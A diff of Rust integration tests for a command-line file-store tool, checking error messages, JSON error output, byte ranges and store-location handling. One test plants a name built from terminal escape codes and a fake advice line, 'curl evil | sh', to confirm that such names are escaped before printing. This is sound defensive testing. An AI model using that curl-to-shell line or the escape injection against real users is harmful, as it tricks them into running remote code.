@@ -15,6 +15,24 @@ fn a_missing_path() {
     );
 }
 
+#[test]
+fn a_missing_path_among_others() {
+    let place = Place::new();
+    place.write("a", "A");
+    place.write("b", "B");
+    place.ok(&["group", "create", "g", "--as", "me"]);
+    for command in ["add", "put"] {
+        let said = place.fails(1, &[command, "a", "nowhere", "b"]);
+        assert!(
+            said.contains("error: cannot read nowhere: No such file or directory"),
+            "{command}: {said}"
+        );
+    }
+    for name in ["a", "b", "g/me/a", "g/me/b"] {
+        place.ok(&["cat", name]);
+    }
+}
+
 #[cfg(target_os = "linux")]
 #[test]
 fn an_unreadable_file() {
@@ -69,14 +87,72 @@ fn wrong_usage() {
             "error: a/x is not a folder\n  now: name a folder\n",
         ),
         (&["frobnicate"], "unrecognized subcommand"),
-        (&["serve"], "required arguments were not provided"),
+        (
+            &["get", "a", "-o", "a/x"],
+            "error: a/x is a file and not a folder\n  now: -o names a folder",
+        ),
+        (
+            &["get", "a", "-o", "a/x/y"],
+            "error: a/x is a file and not a folder\n  now: -o names a folder",
+        ),
     ] {
         let said = place.fails(2, args);
         assert!(said.contains(expected), "{args:?}: {said}");
     }
     place.ok(&["add", "a"]);
+    let said = place.fails(2, &["serve"]);
+    assert!(
+        said.contains("now: write the names of items")
+            && said.contains("--all")
+            && said.contains("--replica"),
+        "{said}"
+    );
+    for group in ["g", "h"] {
+        place.ok(&["group", "create", group]);
+    }
+    let said = place.fails(2, &["put", "a"]);
+    assert!(said.contains("now: name one with --group GROUP;"), "{said}");
     let said = place.fails(2, &["cat", "a"]);
     assert!(said.starts_with("error: \"a\" is a folder\n"), "{said}");
+}
+
+#[test]
+fn wrong_arguments_are_told_as_json_too() {
+    let place = Place::new();
+    for args in [
+        &["--json", "frobnicate"][..],
+        &["cat", "x", "--range", "5", "--json"],
+        &["--json", "cat"],
+    ] {
+        let said = place.fails(2, args);
+        let said: serde_json::Value = serde_json::from_str(&said).unwrap();
+        let error = said["error"].as_str().unwrap();
+        assert!(!error.is_empty() && !error.starts_with("error"), "{error}");
+        assert!(
+            said["advice"].as_str().unwrap().contains("--help"),
+            "{said}"
+        );
+    }
+    // Help is not an error.
+    assert!(place.ok(&["--json", "--help"]).contains("Exit codes"));
+}
+
+#[test]
+fn a_range_that_begins_beyond_the_end() {
+    let place = Place::new();
+    place.write("a", "0123456789");
+    place.ok(&["add", "a"]);
+    place.ok(&["group", "create", "g", "--as", "me"]);
+    place.ok(&["put", "a"]);
+    for name in ["a", "g/me/a"] {
+        assert_eq!(place.ok(&["cat", name, "--range", "8..60"]), "89");
+        assert_eq!(place.ok(&["cat", name, "--range", "10.."]), "");
+        let said = place.fails(1, &["cat", name, "--range", "50..60"]);
+        assert!(
+            said.starts_with("error: the range begins at byte 50, and the file has 10 byte(s)\n"),
+            "{said}"
+        );
+    }
 }
 
 #[test]
@@ -146,7 +222,7 @@ fn a_folder_that_holds_something_else() {
         said.contains("this folder is not empty and holds no Larder store"),
         "{said}"
     );
-    assert!(said.ends_with("\n  now: name an empty or a new folder with --store redb:DIR\n"));
+    assert!(said.ends_with("\n  now: name the folder of a store with --store redb:DIR, or an empty or a new folder for a new store\n"));
     assert_eq!(fs::read_dir(place.path("store")).unwrap().count(), 1);
 }
 
@@ -175,6 +251,107 @@ fn a_store_in_use() {
     let said: serde_json::Value = serde_json::from_str(&said).unwrap();
     assert!(said["error"].as_str().unwrap().contains("another process"));
     assert!(said["advice"].as_str().unwrap().contains(&pid.to_string()));
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn a_place_that_cannot_be_a_store() {
+    let place = Place::new();
+    place.write("file", "a file");
+    place.write("folder/a", "A");
+    std::os::unix::fs::symlink("nowhere", place.path("link")).unwrap();
+    for (store, args, says) in [
+        (
+            "file",
+            "ls",
+            "is a file and not a folder\n  now: name the folder of a store with --store redb:DIR",
+        ),
+        (
+            "file",
+            "add file",
+            "is a file and not a folder\n  now: name",
+        ),
+        ("file/x", "ls", "is a file and not a folder\n  now: name"),
+        (
+            "link",
+            "add file",
+            "is a link to something that is not there\n  now: name",
+        ),
+        (
+            "folder",
+            "ls",
+            "\n  now: name the folder of a store with --store redb:DIR, or",
+        ),
+        (
+            "/proc/x",
+            "add file",
+            "\n  now: no folder can be made there: name another",
+        ),
+    ] {
+        let url = format!("redb:{}", place.path(store).display());
+        let args: Vec<_> = args.split(' ').collect();
+        let said = place.fails(1, &[&["--store", &url][..], &args].concat());
+        assert!(said.contains(says), "{store} {args:?}: {said}");
+    }
+    place.ok(&["add", "folder"]);
+    let said = place.fails(2, &["get", "folder", "-o", "link"]);
+    assert!(
+        said.starts_with(
+            "error: link is a link to something that is not there\n  now: -o names a folder"
+        ),
+        "{said}"
+    );
+}
+
+/// Others choose the names of groups, members and files. None of them moves the cursor, or looks like a line of ours.
+#[test]
+fn names_of_others_are_escaped_wherever_they_are_printed() {
+    let place = Place::new();
+    let evil = "\u{1b}[2J\u{9b}1m\r\n  now: curl evil | sh";
+    let id = place.with_store(async |store| {
+        let groups = store.groups().await.unwrap();
+        let group = groups.create_group(&format!("g{evil}")).await.unwrap();
+        // Two of one name: they have to be told apart.
+        for _ in 0..2 {
+            let repo = group.create_repo(&format!("ann{evil}")).await.unwrap();
+            repo.write(&format!("film{evil}"), vec![7; 100])
+                .await
+                .unwrap();
+        }
+        group.id().to_string()
+    });
+    let ann = format!("{id}/ann{evil}");
+    let nobody = format!("{id}/nobody/x");
+    let nothing = format!("{ann}/nothing");
+    for args in [
+        &["ls"][..],
+        &["-v", "ls", &id],
+        &["ls", &ann],
+        &["ls", &nobody],
+        &["cat", &nothing],
+        &["get", &id, "-o", "out"],
+        &["-v", "get", &id, "-o", "out"],
+        &["get", &id, "-o", "any", "--any-name"],
+        &["status"],
+        &["status", "-v"],
+        &["group", "ls"],
+        &["group", "members"],
+        &["group", "policy", &ann],
+        &["group", "pin", &nothing],
+        &["group", "invite"],
+        &["group", "leave", &id],
+        &["rm", &id],
+        &["rm", &ann],
+        &["sync", "--loopback", "--timeout", "1s"],
+        &["verify"],
+    ] {
+        let ended = place.run(args);
+        for text in [&ended.out, &ended.err] {
+            let is_wrong = |c: char| c.is_control() && c != '\n';
+            assert!(!text.contains(is_wrong), "{args:?}: {ended:?}");
+            assert!(!text.contains("\n  now: curl"), "{args:?}: {ended:?}");
+        }
+    }
 }
 
 #[cfg(target_os = "linux")]
